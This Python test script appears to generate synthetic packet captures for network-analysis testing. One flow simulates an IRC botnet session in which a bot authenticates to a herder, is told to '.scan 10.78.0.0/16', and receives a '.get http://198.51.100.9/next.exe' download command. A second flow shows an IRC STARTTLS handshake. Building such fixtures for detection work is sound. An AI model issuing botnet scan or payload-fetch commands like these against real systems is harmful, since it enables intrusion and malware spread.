"""A bot that ends lines with LF only, on port 443, its password wrong the first time; and a client that goes dark."""

from __future__ import annotations

import sys
from pathlib import Path

sys.path.append(str(Path(__file__).parents[1]))

from tcpflow import Capture

BOT, HERDER, SERVER = "10.78.0.24", "198.51.100.9", "10.78.0.10"

capture = Capture(__file__)
bot = capture.flow((BOT, 41002), (HERDER, 443))
bot.client("PASS l3t-me-in\nUSER x x x x\nNICK DEU|7391\n")
bot.server("ERROR :Closing Link: [10.78.0.24] (Bad Password)\n")
bot.close()
bot = capture.flow((BOT, 41003), (HERDER, 443))
bot.client("PASS :L3t-me-in\n", "USER x x x x\n", "NICK DEU|7391\n")
bot.server("PING :8C3A\n")
bot.client("PONG 8C3A\n")
bot.server(":h.example.net 001 DEU|7391 :\n:h.example.net 002 DEU|7391 :\n")
bot.client("JOIN #x k3y\n")
bot.server(
    ":DEU|7391!x@10.78.0.24 JOIN :#x\n:h.example.net 332 DEU|7391 #x :.scan 10.78.0.0/16\n"
    ":h.example.net 366 DEU|7391 #x :\n"
)
bot.server(":boss!b@198.51.100.10 PRIVMSG #x :.status\n")
bot.client("PRIVMSG #x :[SCAN] 12 hosts\n")
bot.server(":boss!b@198.51.100.10 PRIVMSG DEU|7391 :.get http://198.51.100.9/next.exe\n")
bot.close()

dark = capture.flow((BOT, 41004), (SERVER, 6667))
dark.client("NICK erin\r\nUSER erin 0 * :Erin Lab\r\nSTARTTLS\r\n")
dark.server(":irc.lab.test 670 * :STARTTLS successful, go ahead with TLS handshake\r\n")
dark.client(b"\x16\x03\x01\x00\x2a\x01\x00\x00\x26\x03\x03" + bytes(36))
dark.server(b"\x16\x03\x03\x00\x2a\x02\x00\x00\x26\x03\x03" + bytes(36))
dark.close()
